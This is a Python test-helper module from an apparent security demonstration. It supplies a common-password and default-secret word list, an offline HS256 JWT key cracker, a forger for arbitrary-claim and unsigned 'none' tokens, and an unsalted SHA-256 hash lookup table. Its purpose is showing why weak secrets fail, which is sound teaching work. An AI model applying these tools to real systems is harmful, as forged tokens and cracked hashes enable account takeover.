"""The attacker's toolkit the tests use: a word list, a JWT key cracker, a token forger.

Not part of either app. Everything here runs offline, on data the attacker already has (a
token from their own login, a copy of the users table): no server can rate-limit it.
"""

import hashlib
import warnings
from collections.abc import Iterable
from datetime import UTC, datetime, timedelta
from typing import Any

import jwt

# Fifty guesses: the most common passwords of leaked-password lists, then the placeholder
# secrets that tutorials and example .env files ship with. Real lists hold millions; fifty
# is enough to show that a guessable secret falls to the first list anyone tries.
WORDLIST: tuple[str, ...] = (
    "123456", "password", "12345678", "qwerty", "123456789", "12345", "1234", "111111",
    "1234567", "dragon", "123123", "baseball", "abc123", "football", "monkey", "letmein",
    "696969", "shadow", "master", "666666", "qwertyuiop", "123321", "mustang", "1234567890",
    "michael", "654321", "superman", "1qaz2wsx", "7777777", "121212", "000000", "qazwsx",
    "sunshine1", "iloveyou", "trustno1", "princess", "admin", "welcome", "secret",
    "changeme", "supersecret", "your-256-bit-secret", "jwt-secret", "secret-key",
    "my-secret-key", "change-me-before-going-to-production", "dev-secret-do-not-use",
    "s3cr3t", "passw0rd", "hunter2",
)  # fmt: skip


def crack_hs256_key(token: str, words: Iterable[str] = WORDLIST) -> str | None:
    """The word that verifies `token`'s HS256 signature, or None if no word does.

    Offline and silent: each guess is one HMAC, and no server sees a single attempt.
    """
    with warnings.catch_warnings():
        # PyJWT >= 2.11 warns about HMAC keys under 32 bytes; most guesses are that short.
        warnings.simplefilter("ignore", UserWarning)
        for word in words:
            try:
                # exp is not checked: an expired token reveals its key just as well.
                jwt.decode(token, word, algorithms=["HS256"], options={"verify_exp": False})
            except jwt.InvalidSignatureError:
                continue
            return word
    return None


def forge_token(claims: dict[str, Any], key: str | None, algorithm: str = "HS256") -> str:
    """A token with any claims we like, valid for an hour, signed with `key`.

    algorithm="none" with key=None makes an unsigned token: header.payload. (empty signature).
    """
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)  # short attacker keys: see above
        exp = datetime.now(UTC) + timedelta(hours=1)
        return jwt.encode({"exp": exp, **claims}, key, algorithm=algorithm)


def sha256_lookup_table(words: Iterable[str] = WORDLIST) -> dict[str, str]:
    """Unsalted SHA-256 hash -> password, computed once and reused on every dump."""
    return {hashlib.sha256(word.encode()).hexdigest(): word for word in words}
